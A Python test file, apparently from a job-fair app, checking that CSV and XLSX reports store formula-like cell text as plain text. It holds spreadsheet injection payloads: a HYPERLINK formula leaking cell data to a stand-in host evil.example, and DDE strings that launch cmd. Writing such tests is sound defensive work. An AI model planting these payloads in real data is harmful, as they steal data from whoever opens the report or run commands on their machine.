"""Formula injection: text a host or organiser typed (a job title, an employer's or a room's name,
the fair's title) that a spreadsheet would run when the organiser opens the report. Every CSV
and XLSX cell that starts like a formula is written as text."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests.fixtures.values import Api

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = {
    "job": HYPERLINK,
    "employer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "room": "+1+cmd|' /C calc'!A0",
    "fair": "-2+3",
    "tab": "\t=1+1",
}


@pytest.fixture
def report(db, make_user, make_employer, make_fair, make_room, make_job, token_for):
    organiser = make_user("organiser")
    fair = make_fair(organiser=organiser, title=PAYLOADS["fair"], status="live")
    employer = make_employer(name=PAYLOADS["employer"])
    host = make_user("host", employer=PAYLOADS["employer"])
    make_room(fair=fair, host=host, title=PAYLOADS["room"])
    jobs = [make_job(employer=employer, title=t) for t in (PAYLOADS["job"], "Welder")]
    fair.jobs.extend(jobs)
    db.session.commit()
    return fair, token_for(organiser)


def test_the_csv_report_writes_formula_text_as_text(client, report):
    fair, token = report
    answer = Api(client, token).get(f"/fairs/{fair.id}/report.csv")
    assert answer.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(answer.get_data(as_text=True))) for cell in row]
    for cell in cells:
        assert not cell.lstrip("\ufeff").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + HYPERLINK in cells, "the job title is in the report, quoted as text"
    assert "'" + PAYLOADS["fair"] in cells
    assert "Welder" in cells  # ordinary text is left as it was


def test_the_xlsx_report_holds_no_formula_at_all(client, report):
    fair, token = report
    answer = Api(client, token).get(f"/fairs/{fair.id}/report.xlsx")
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
    workbook = load_workbook(io.BytesIO(answer.data))
    texts = {
        cell.value: cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for payload in (HYPERLINK, PAYLOADS["employer"], PAYLOADS["room"], PAYLOADS["fair"]):
        assert payload in texts, f"{payload!r} missing from the workbook"
        assert texts[payload].data_type == "s", payload
        assert texts[payload].quotePrefix, payload
